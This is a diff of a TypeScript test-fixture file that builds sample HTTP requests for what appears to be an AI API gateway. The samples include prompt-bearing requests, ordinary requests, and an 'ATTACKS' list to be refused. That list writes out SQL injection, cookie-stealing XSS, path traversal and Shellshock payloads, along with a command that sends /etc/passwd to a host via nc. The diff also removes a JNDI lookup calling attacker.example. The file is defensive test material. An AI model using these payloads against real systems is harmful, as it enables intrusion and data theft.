@@ -13,7 +13,8 @@ const VERSION = "api-version=2024-10-21";
 /** As OpenAI's packages send them. */
 const CLIENT = {
   accept: "application/json",
-  authorization: "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL2NvZ25pdGl2ZXNlcnZpY2VzLmF6dXJlLmNvbSJ9.c2ln",
+  authorization:
+    "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL2NvZ25pdGl2ZXNlcnZpY2VzLmF6dXJlLmNvbSJ9.c2ln",
   "user-agent": "OpenAI/JS 6.49.0",
   "x-stainless-lang": "js",
   "x-stainless-runtime-version": "v22.0.0",
@@ -51,7 +52,11 @@ export function withPrompt(text: string): Sample[] {
     chat("a message", { messages: [{ role: "system", content: text }, user(text)] }),
     chat("parts of a message", { messages: [user([{ type: "text", text }])] }),
     chat("a tool's turn", {
-      messages: [user("Hi"), { role: "assistant", tool_calls: [call] }, { role: "tool", tool_call_id: "call_1", content: text }],
+      messages: [
+        user("Hi"),
+        { role: "assistant", tool_calls: [call] },
+        { role: "tool", tool_call_id: "call_1", content: text },
+      ],
     }),
     chat("a tool", { messages: [user("Hi")], tools: [tool(text)], tool_choice: "auto" }),
     chat("a schema", {
@@ -70,7 +75,12 @@ export function withPrompt(text: string): Sample[] {
         { role: "user", content: [{ type: "input_text", text }] },
         { type: "function_call", call_id: "c", name: "sh", arguments: JSON.stringify({ cmd: text }) },
         { type: "function_call_output", call_id: "c", output: text },
-        { type: "reasoning", id: "rs_1", summary: [{ type: "summary_text", text }], encrypted_content: "gAAAAABn+/a==" },
+        {
+          type: "reasoning",
+          id: "rs_1",
+          summary: [{ type: "summary_text", text }],
+          encrypted_content: "gAAAAABn+/a==",
+        },
       ],
       tools: [{ type: "function", ...tool(text).function }],
       text: { format: { type: "json_schema", name: "x", schema: tool(text).function.parameters } },
@@ -80,8 +90,16 @@ export function withPrompt(text: string): Sample[] {
     json("images", "/openai/v1/images/generations", { model: "gpt-image-1", prompt: text, size: "1024x1024" }),
     json("speech", `${DEPLOYMENT}/audio/speech?${VERSION}`, { input: text, voice: "alloy", instructions: text }),
     json("assistants", `/openai/threads/t_1/messages?${VERSION}`, { role: "user", content: text }),
-    json("anthropic", "/anthropic/v1/messages", { model: "claude", max_tokens: 9, system: text, messages: [user(text)] }),
-    json("inference", "/models/chat/completions?api-version=2024-05-01-preview", { model: "x", messages: [user(text)] }),
+    json("anthropic", "/anthropic/v1/messages", {
+      model: "claude",
+      max_tokens: 9,
+      system: text,
+      messages: [user(text)],
+    }),
+    json("inference", "/models/chat/completions?api-version=2024-05-01-preview", {
+      model: "x",
+      messages: [user(text)],
+    }),
     form("transcription", `${DEPLOYMENT}/audio/transcriptions?${VERSION}`, text),
   ];
 }
@@ -96,7 +114,13 @@ function form(name: string, url: string, prompt: string): Sample {
     part('name="file"; filename="speech.wav"\r\nContent-Type: audio/wav', "RIFF....WAVE"),
     `--${boundary}--\r\n`,
   ].join("");
-  return { name, method: "POST", url, headers: { ...CLIENT, "content-type": `multipart/form-data; boundary=${boundary}` }, body };
+  return {
+    name,
+    method: "POST",
+    url,
+    headers: { ...CLIENT, "content-type": `multipart/form-data; boundary=${boundary}` },
+    body,
+  };
 }
 
 /** Requests without a prompt that every client sends now and then. */
@@ -105,7 +129,12 @@ export const ORDINARY: readonly Sample[] = [
   { name: "a response", method: "GET", url: "/openai/v1/responses/resp_0a1b2c", headers: CLIENT, body: undefined },
   { name: "delete", method: "DELETE", url: "/openai/v1/files/file-abc123", headers: CLIENT, body: undefined },
   json("an image", `${DEPLOYMENT}/chat/completions?${VERSION}`, {
-    messages: [user([{ type: "image_url", image_url: { url: `data:image/png;base64,${"iVBORw0KGgo+/AAA".repeat(200)}` } }])],
+    messages: [
+      user([{ type: "image_url", image_url: { url: `data:image/png;base64,${"iVBORw0KGgo+/AAA".repeat(200)}` } }]),
+    ],
+  }),
+  json("an image's address", `${DEPLOYMENT}/chat/completions?${VERSION}`, {
+    messages: [user([{ type: "image_url", image_url: { url: "https://images.example.com/a.png?size=1&sig=a%2Fb" } }])],
   }),
   json("ids", "/openai/v1/responses", {
     model: "gpt-5-mini",
@@ -130,7 +159,10 @@ const get = (name: string, url: string, headers: Record<string, string> = {}): S
 
 /** Attacks where no prompt is: each has to be refused. */
 export const ATTACKS: readonly Sample[] = [
-  get("SQL in the query string", "/openai/v1/models?after=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20"),
+  get(
+    "SQL in the query string",
+    "/openai/v1/models?after=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
+  ),
   get("a script in the query string", "/openai/v1/models?after=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
   get("a file in the query string", "/openai/v1/files?purpose=../../../../etc/passwd"),
   get("a command in the query string", "/openai/v1/models?limit=1;cat%20/etc/passwd"),
@@ -140,7 +172,6 @@ export const ATTACKS: readonly Sample[] = [
   get("a shell in a header", "/openai/v1/models", { "user-agent": "() { :; }; /bin/bash -c 'id'" }),
   get("a scanner", "/openai/v1/models", { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" }),
   get("SQL in a cookie", "/openai/v1/models", { cookie: "session=1' UNION SELECT 1,2,3 FROM users-- " }),
-  get("a lookup in a header", "/openai/v1/models", { "x-api-version": "${jndi:ldap://attacker.example/a}" }),
   json("SQL in a field that holds no prompt", `${DEPLOYMENT}/embeddings?${VERSION}`, {
     input: "Hi",
     user: "x' UNION SELECT password FROM users WHERE '1'='1",
@@ -149,5 +180,8 @@ export const ATTACKS: readonly Sample[] = [
     input: "Hi",
     "<script>alert(document.cookie)</script>": "x",
   }),
-  json("a command in the model's name", "/openai/v1/responses", { input: "Hi", model: "x; cat /etc/passwd | nc 10.0.0.1 80" }),
+  json("a command in the model's name", "/openai/v1/responses", {
+    input: "Hi",
+    model: "x; cat /etc/passwd | nc 10.0.0.1 80",
+  }),
 ];
